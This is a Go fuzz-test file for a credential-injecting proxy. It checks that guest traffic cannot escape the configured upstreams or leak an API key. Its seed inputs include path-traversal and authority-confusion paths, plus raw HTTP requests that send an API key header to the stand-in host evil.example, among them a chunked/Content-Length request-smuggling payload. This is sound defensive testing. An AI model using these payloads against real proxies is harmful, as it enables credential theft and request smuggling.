package proxy

import (
	"io"
	"net"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/keystone-agent/keystone/internal/credentials"
)

// FuzzUpstreamURL: whatever path the guest sends, the request goes to the
// configured upstream's host, below its base path, without dot segments.
func FuzzUpstreamURL(f *testing.F) {
	for _, s := range []string{"/anthropic/v1/messages", "/openai/../x", "/gemini/%2e%2e/x", "//evil/anthropic", "/anthropic@evil/x", "/openai/a%2fb"} {
		f.Add(s, "a=b")
	}
	s := &Server{upstreams: map[string]*url.URL{}}
	for _, p := range credentials.Providers {
		s.upstreams[p.Name], _ = url.Parse("https://" + p.Name + ".upstream.example/base%20path")
	}
	f.Fuzz(func(t *testing.T, path, query string) {
		in := &url.URL{Path: path, RawQuery: query}
		if u, err := url.ParseRequestURI(path); err == nil {
			in = u
		}
		p, out, err := s.upstreamURL(in)
		if err != nil {
			return
		}
		if out.Scheme != "https" || out.Host != p.Name+".upstream.example" || out.User != nil {
			t.Fatalf("%q went to %s", path, out)
		}
		if !strings.HasPrefix(out.Path, "/base path/") {
			t.Fatalf("%q left the base path: %q", path, out.Path)
		}
		for _, seg := range strings.Split(out.Path, "/") {
			if seg == ".." || seg == "." {
				t.Fatalf("%q kept a dot segment: %q", path, out.Path)
			}
		}
		noQuery := *out
		noQuery.RawQuery = "" // the server never passes control characters; the fuzzer does
		if back, err := url.Parse(noQuery.String()); err != nil || back.Host != out.Host {
			t.Fatalf("%q: %q does not parse back to its host: %v", path, out.String(), err)
		}
	})
}

func FuzzParseTarget(f *testing.F) {
	for _, s := range []string{"example.com:443", "[::1]:80", "10.0.0.1", "[fe80::1%eth0]:22", "a:b:c", "ex ample:1"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		tg, err := parseTarget(s, 80)
		if err != nil {
			return
		}
		again, err := parseTarget(tg.String(), 0)
		if err != nil || again != tg {
			t.Fatalf("%q → %v does not parse back: %v %v", s, tg, again, err)
		}
	})
}

// FuzzGuestBytes sends arbitrary bytes as a guest connection: the proxy
// must not panic, and a real key may reach only the Anthropic stub.
func FuzzGuestBytes(f *testing.F) {
	key := "X-Api-Key: " + ph("ANTHROPIC_API_KEY") + "\r\n"
	for _, s := range []string{
		"POST /anthropic/v1/messages HTTP/1.1\r\nHost: x\r\n" + key + "Content-Length: 2\r\n\r\n{}",
		"GET http://evil.example/ HTTP/1.1\r\nHost: api.anthropic.com\r\n" + key + "\r\n",
		"CONNECT evil.example:443 HTTP/1.1\r\n" + key + "\r\n",
		"POST /anthropic/v1/messages HTTP/1.1\r\nHost: x\r\n" + key + "Transfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\n0\r\n\r\nGET http://evil.example/ HTTP/1.1\r\n" + key + "\r\n",
	} {
		f.Add([]byte(s))
	}
	h := newHarness(f)
	evil := newStub(f, false, nil)
	h.dns.set("evil.example", "127.0.0.1")
	h.allow("evil.example:*", "127.0.0.1:*")
	f.Fuzz(func(t *testing.T, data []byte) {
		c, err := net.Dial("tcp", h.addr)
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		c.SetDeadline(time.Now().Add(3 * time.Second))
		c.Write(data)
		c.(*net.TCPConn).CloseWrite()
		io.Copy(io.Discard, c)
		for _, s := range []*stub{evil, h.openai, h.gemini} {
			if k := s.sawKey(); k != "" {
				t.Fatalf("%q sent the key %q to %s", data, k, s.URL)
			}
		}
	})
}
